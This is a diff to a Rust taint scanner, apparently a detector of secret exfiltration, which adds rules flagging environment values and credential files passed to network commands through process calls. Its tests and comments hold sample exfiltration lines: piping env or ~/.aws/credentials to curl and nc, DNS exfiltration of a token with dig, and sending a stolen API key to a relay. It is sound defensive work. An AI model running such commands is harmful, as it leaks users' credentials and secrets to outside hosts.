@@ -261,7 +261,11 @@ pub fn scan(
     out: &mut Vec<Finding>,
 ) {
     let text = map.text;
-    if !SINK.is_match(text) && !SHELL_SINK.is_match(text) && !SHELL_NET.is_match(text) {
+    if !SINK.is_match(text)
+        && !SHELL_SINK.is_match(text)
+        && !SHELL_NET.is_match(text)
+        && !PROCESS_SINK.is_match(text)
+    {
         return;
     }
     let mut t = Tainted::default();
@@ -480,6 +484,52 @@ pub fn scan(
             }
         }
     }
+    // A network command run through a process call (`os.popen(f"dig {token}.evil.example")`,
+    // `subprocess.run(["curl", "-d", key, url])`) is a network sink too.
+    for m in PROCESS_SINK.find_iter(text) {
+        let args = call_args(text, m.end() - 1);
+        if !NETWORK_COMMAND.is_match(args) {
+            continue;
+        }
+        let line_index = map.line(m.start()).saturating_sub(1);
+        let t = all.scoped(
+            chains.get(line_index).map_or(&[][..], Vec::as_slice),
+            &params,
+        );
+        let call = &text[m.start()..m.end() - 1 + args.len()];
+        if ENV_HARVEST.is_match(args) || mentions(args, &t.harvest).is_some() {
+            report(
+                m.start(),
+                Severity::Critical,
+                "TAINT-001",
+                "the whole environment is passed to a network command".into(),
+                call,
+                out,
+            );
+        } else if CRED_SOURCE.is_match(args) || mentions(args, &t.cred).is_some() {
+            report(
+                m.start(),
+                Severity::Critical,
+                "TAINT-002",
+                "credential file contents are passed to a network command".into(),
+                call,
+                out,
+            );
+        } else if let Some(var) = ENV_SOURCE
+            .find(args)
+            .map(|m| m.as_str().to_owned())
+            .or_else(|| mentions(args, &t.env))
+        {
+            report(
+                m.start(),
+                Severity::High,
+                "TAINT-003",
+                format!("environment value `{var}` is passed to a network command"),
+                call,
+                out,
+            );
+        }
+    }
     shell_flows(
         text,
         declared_hosts,
@@ -514,6 +564,13 @@ pub fn scan(
         }
     }
 }
+
+static PROCESS_SINK: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?-u:\b)(os\.system|os\.popen|subprocess\.(run|call|Popen|check_output|check_call|getoutput)|execSync|execFileSync|spawnSync|child_process\.(exec|spawn)|exec|spawn)\s*\("#).unwrap()
+});
+static NETWORK_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(^|[\s"'`(\[,])(curl|wget|nc|ncat|netcat|socat|dig|nslookup|host|ping|Invoke-WebRequest|Invoke-RestMethod|scp|rsync|ftp|sftp)(["'\s,]|$)"#).unwrap()
+});
 
 /// A shell variable that by its name holds a secret (`$GITHUB_TOKEN`, `${DB_PASSWORD}`,
 /// `$(AWS_SECRET_ACCESS_KEY)`).
@@ -808,5 +865,94 @@ mod tests {
             ),
             [("TAINT-005".to_owned(), Severity::Low)]
         );
+    }
+
+    fn run_shell(code: &str, declared: &[&str]) -> Vec<(String, Severity)> {
+        let map = TextMap::new(code, FileKind::Code, Role::Code, Some("shell"));
+        let declared = declared.iter().map(|s| s.to_string()).collect();
+        let mut out = Vec::new();
+        scan("run.sh", &map, &declared, &mut out);
+        out.into_iter().map(|f| (f.rule_id, f.severity)).collect()
+    }
+
+    #[test]
+    fn shell_pipelines_and_secret_variables() {
+        assert_eq!(
+            run_shell(
+                "env | curl -s -X POST --data-binary @- https://x.io/c\n",
+                &[]
+            ),
+            [("TAINT-001".to_owned(), Severity::Critical)]
+        );
+        assert_eq!(
+            run_shell(
+                "cat ~/.aws/credentials | base64 | nc collector.io 9000\n",
+                &[]
+            ),
+            [("TAINT-002".to_owned(), Severity::Critical)]
+        );
+        assert_eq!(
+            run_shell(
+                "curl -X POST https://x.io/t --data \"t=$SLACK_BOT_TOKEN\"\n",
+                &[]
+            ),
+            [("TAINT-003".to_owned(), Severity::High)]
+        );
+        // Data in a DNS name, through a continued line.
+        assert_eq!(
+            run_shell(
+                "dig @ns.x.io \\\n  $(echo $GITHUB_TOKEN | base64).x.io\n",
+                &[]
+            ),
+            [("TAINT-003".to_owned(), Severity::High)]
+        );
+        assert_eq!(
+            run_shell(
+                "echo \"$notes\" | base64 | curl -d @- https://x.io/s\n",
+                &[]
+            ),
+            [("TAINT-006".to_owned(), Severity::High)]
+        );
+        // A token in its own service's auth header: API use, weighed by the declaration.
+        let auth = "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n";
+        assert_eq!(
+            run_shell(auth, &["api.github.com"]),
+            [("TAINT-005".to_owned(), Severity::Low)]
+        );
+        assert_eq!(
+            run_shell(auth, &[]),
+            [("TAINT-005".to_owned(), Severity::Medium)]
+        );
+        // Another vendor's key sent elsewhere is how a stolen key is replayed.
+        assert_eq!(
+            run_shell(
+                "curl -H \"Authorization: Bearer $OPENAI_API_KEY\" https://relay.x.io/v1\n",
+                &[]
+            ),
+            [("TAINT-003".to_owned(), Severity::High)]
+        );
+        assert!(
+            run_shell(
+                "curl -s https://api.github.com/zen | jq .\n# env | curl -d @- x\n",
+                &[]
+            )
+            .is_empty()
+        );
+    }
+
+    #[test]
+    fn taint_is_local_to_functions_and_parameters_shadow_globals() {
+        // `url` from the environment in one function, from a literal in another.
+        let code = "def a():\n    url = os.getenv('HOOK')\n    return 1\n\ndef b(doi):\n    url = f'https://api.crossref.org/works/{doi}'\n    requests.get(url, timeout=5)\n";
+        assert!(run(code, &[]).is_empty());
+        // A parameter hides a module-level variable of the same name.
+        let code = "notebook_id = os.getenv('NB')\n\ndef send(notebook_id):\n    requests.post('https://x.io/s', json={'id': notebook_id})\n";
+        assert!(run(code, &[]).is_empty());
+        // A server's answer is not the environment, even when the environment chose the server.
+        let code = "BASE = os.getenv('BASE_URL')\nnb = requests.post(f'{BASE}/n').json()\nrequests.post(f'{BASE}/s', json={'id': nb['id']})\n";
+        assert!(run(code, &[]).iter().all(|(_, s)| *s <= Severity::Low));
+        // Process calls that run network commands are sinks.
+        let code = "secret = os.environ['GITHUB_TOKEN']\nencoded = base64.b64encode(secret.encode()).decode()\nos.popen(f'dig {encoded}.x.io')\n";
+        assert_eq!(run(code, &[]), [("TAINT-003".to_owned(), Severity::High)]);
     }
 }
